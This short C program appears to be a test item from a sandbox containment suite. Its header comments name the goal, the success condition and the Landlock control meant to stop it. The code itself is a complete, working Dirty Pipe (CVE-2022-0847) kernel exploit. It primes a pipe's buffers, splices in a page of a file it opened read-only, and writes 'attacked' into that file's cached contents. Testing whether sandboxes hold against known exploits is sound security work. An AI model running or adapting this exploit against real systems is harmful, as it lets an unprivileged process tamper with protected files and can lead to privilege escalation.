// goal: write into a file that may only be read, through a pipe that holds its pages (CVE-2022-0847)
// success: changes secret_file
// held_by: landlock_files
// no_control: the kernel has been mended; it shows that nobody fell behind
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/types.h>
#include <unistd.h>

int main(void) {
	char text[8192] = {0}, path[4096] = {0}, block[4096];
	fread(text, 1, sizeof text - 1, fopen("target.json", "r"));
	sscanf(strstr(text, "\"secret_file\": \"") + 16, "%4095[^\"]", path);
	int file = open(path, O_RDONLY), ends[2];
	if (file < 0 || pipe(ends) != 0) {
		perror(path);
		return 1;
	}
	// Every slot of the pipe may be added to from now on; the splice forgets to take that back.
	int size = fcntl(ends[1], F_GETPIPE_SZ);
	for (int left = size; left > 0; left -= sizeof block)
		write(ends[1], block, sizeof block);
	for (int left = size; left > 0; left -= sizeof block)
		read(ends[0], block, sizeof block);
	loff_t start = 0;
	splice(file, &start, ends[1], NULL, 1, 0);
	write(ends[1], "attacked", 8);
	return 0;
}
